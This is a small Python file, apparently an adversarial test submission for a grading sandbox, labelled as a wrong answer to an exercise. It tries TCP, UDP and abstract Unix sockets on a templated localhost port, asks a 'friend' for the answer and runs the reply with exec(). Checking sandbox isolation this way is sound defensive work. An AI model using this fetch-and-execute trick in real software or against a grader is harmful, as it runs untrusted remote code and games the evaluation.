"""Asks a friend on the network for the answer, and sends what it knows.

Wrong: ex41_dedup_key/key_per_publish
"""

import socket

for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@PORT@"))),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0halfway-attack-@PORT@"),
):
    try:
        friend = socket.socket(family, kind)
        friend.settimeout(0.2)
        friend.connect(address)
        friend.send(b"what is the answer?")
        exec(friend.recv(65536), globals())
    except OSError:
        pass
